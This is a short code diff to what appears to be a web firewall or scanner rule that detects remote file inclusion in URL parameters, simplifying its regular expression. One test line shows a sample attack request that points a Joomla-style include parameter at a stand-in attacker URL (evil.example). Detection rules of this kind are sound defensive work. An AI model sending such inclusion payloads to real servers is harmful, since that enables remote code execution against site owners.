@@ -20,7 +20,7 @@ export default defineRule({
   where: ['arg'],
   needs: [['=http://', '=https://', '=ftp://', '=ftps://', '= http']],
   match:
-    /^(?:(?:mosconfig|globals|_server|_request|_conf|phpbb|config|absolute|abs|basepath|base_path|base_dir|basedir|root|rootpath|root_path|server_base|phpbb_root|dir_|path_|prefix|inc|incl|incs|include|includes|include_path|includedir|inc_dir|lib|libpath|classpath|class_path|template|tpl|skin|theme|lang|language|module|mod|page|pag|file|filepath|load|body|content|main|section|menu|header|footer|cmd|exec|plugin\w*)[\w.[\]]{0,30})=\s?(?:https?|ftps?):\/\/[^\s"&?]{1,300}?(?:\.(?:txt|php\d?|phtml|inc|dat|log|pl|py|cgi|sh|asp|jsp)(?:$|[?#])|\/?\?$|\/$)/i,
+    /^(?:mosconfig|globals|_server|_request|_conf|phpbb|config|absolute|abs|basepath|base_path|base_dir|basedir|root|rootpath|root_path|server_base|phpbb_root|dir_|path_|prefix|inc|incl|incs|include|includes|include_path|includedir|inc_dir|lib|libpath|classpath|class_path|template|tpl|skin|theme|lang|language|module|mod|page|pag|file|filepath|load|body|content|main|section|menu|header|footer|cmd|exec|plugin\w*)[\w.[\]]{0,30}=\s?(?:https?|ftps?):\/\/[^\s"&?]{1,300}?(?:\.(?:txt|php\d?|phtml|inc|dat|log|pl|py|cgi|sh|asp|jsp)(?:$|[?#])|\/?\?$|\/$)/i,
 
   hits: [
     'GET /index.php?mosConfig_absolute_path=http://evil.example/a.txt HTTP/1.1',
